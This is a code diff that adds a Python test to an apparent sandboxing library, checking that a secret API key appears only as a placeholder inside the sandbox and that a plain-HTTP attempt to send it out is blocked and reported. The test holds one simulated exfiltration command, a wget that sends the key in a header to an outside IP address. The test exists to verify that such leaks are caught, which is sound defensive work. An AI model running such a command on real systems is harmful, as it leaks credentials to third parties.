@@ -19,6 +19,8 @@ from microsandbox import (
     Volume,
     VolumeNotFoundError,
     ExitedEvent,
+    NetworkPolicy,
+    Secret,
     set_mode,
 )
 from microsandbox import _native
@@ -198,3 +200,31 @@ async def test_unplaceable_volume_is_a_scheduling_error_and_cleaned_up(dev: Clus
         )
     assert "none with labels {zone=nowhere}" in str(e.value), e.value
     assert "py-nowhere" not in [v.name for v in await Volume.list(cluster=dev)]
+
+
+async def test_secret_is_only_a_placeholder_in_the_sandbox(dev: Cluster) -> None:
+    value = "sk-py-cluster-" + os.urandom(8).hex()
+    sb = await Sandbox.create(
+        "py-secret", image=IMAGE, memory=64, isolation="container", cluster=dev,
+        network=NetworkPolicy.public_only(),
+        secrets=[Secret.env("API_KEY", value=value, allow_hosts=["api.example.com"])],
+    )
+    async with sb:
+        # The operator sealed the value to the node; the guest has a placeholder, which the
+        # node-agent's proxy knows: sent over plain HTTP it is blocked and reported.
+        out = await sb.exec(
+            "sh",
+            [
+                "-c",
+                'echo $API_KEY; wget -O- --header "X-Key: $API_KEY" http://203.0.113.9/ 2>&1; env',
+            ],
+        )
+        assert value not in out.stdout() + out.stderr()
+        assert out.stdout().startswith("msb-secret-api-key-"), out.stdout()
+        seen = [(v.secret, v.host) for v in await sb.secret_violations()]
+        assert seen == [("API_KEY", "203.0.113.9")]
+        conn = await _native.Cluster.connect(dev.kubeconfig, dev.context, dev.namespace)
+        obj = await conn.get("py-secret")
+        assert obj["spec"]["secrets"] == [{"name": "py-secret-api-key", "env": "API_KEY"}]
+        assert obj["status"]["sealedSecrets"]["recipient"]
+        assert value not in str(obj)
